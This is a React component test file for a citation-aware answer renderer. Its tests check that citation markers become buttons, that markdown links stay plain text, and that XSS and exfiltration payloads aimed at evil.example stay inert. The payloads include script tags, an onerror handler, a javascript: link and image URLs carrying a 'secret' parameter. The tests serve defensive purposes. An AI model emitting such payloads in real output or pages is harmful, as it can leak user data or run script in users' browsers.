import { render, screen } from "@testing-library/react";
import { Tooltip } from "radix-ui";
import { expect, test, vi } from "vitest";
import { AnswerText, blocksOf } from "./answer-text";
import { CitedProvider } from "./cite";
import { CITATION } from "./fixtures";

function show(text: string, onOpen = vi.fn()) {
  const citations = [CITATION, { ...CITATION, marker: 2, page: null, filename: "<b>notes</b>.txt" }];
  const { container } = render(
    <Tooltip.Provider>
      <CitedProvider value={{ citations, open: null, onOpen }}>
        <AnswerText text={text} markers={[1, 2]} />
      </CitedProvider>
    </Tooltip.Provider>,
  );
  return { container, onOpen };
}

test("a marker with a citation is a button that opens it; other numbers stay text", () => {
  const { container, onOpen } = show("It lasts 47 days [1]. Opened parcels do not count [2]; see [2024] and `a[1]`.");
  screen.getByRole("button", { name: "Citation 1: handbook.pdf, page 3" }).click();
  expect(onOpen).toHaveBeenCalledWith(CITATION);
  expect(screen.getByRole("button", { name: "Citation 2: <b>notes</b>.txt" })).toBeVisible();
  expect(container).toHaveTextContent("see [2024] and a[1].");
});

test.each([
  ["a script", "<script>alert(1)</script> harmless"],
  ["an event", '<img src=x onerror="alert(1)"> harmless'],
  ["a picture", "![steal](https://evil.example/p.png?q=secret) harmless"],
  ["a link", "[click](https://evil.example/x) harmless"],
  ["a script link", "[click](javascript:alert(1)) harmless"],
  ["an address", "harmless https://evil.example/y"],
  ["a reference", "![steal][r] harmless\n\n[r]: https://evil.example/z"],
  ["a frame", '<iframe src="https://evil.example"></iframe> harmless'],
  ["a style", '<style>@import "https://evil.example/s.css";</style> harmless'],
  ["a form", '<form action="https://evil.example"><input name=p></form> harmless'],
])("%s in an answer stays text", (_, text) => {
  const { container } = show(text);
  expect(
    container.querySelector("script, img, a, iframe, style, form, input, object, link, [onerror], [style]"),
  ).toBeNull();
  expect(container).toHaveTextContent("harmless");
});

test("a link's address is read and not followed", () => {
  const { container } = show("[the rules](https://acme.example/rules)");
  expect(container).toHaveTextContent("the rules (https://acme.example/rules)");
});

test("text is cut where markdown can be cut", () => {
  expect(blocksOf("one\n\ntwo\n\n- a\n\n- b\n\n```\nx\n\ny\n```\n\nend")).toEqual([
    "one\n",
    "two\n\n- a\n\n- b\n\n```\nx\n\ny\n```\n",
    "end",
  ]);
});
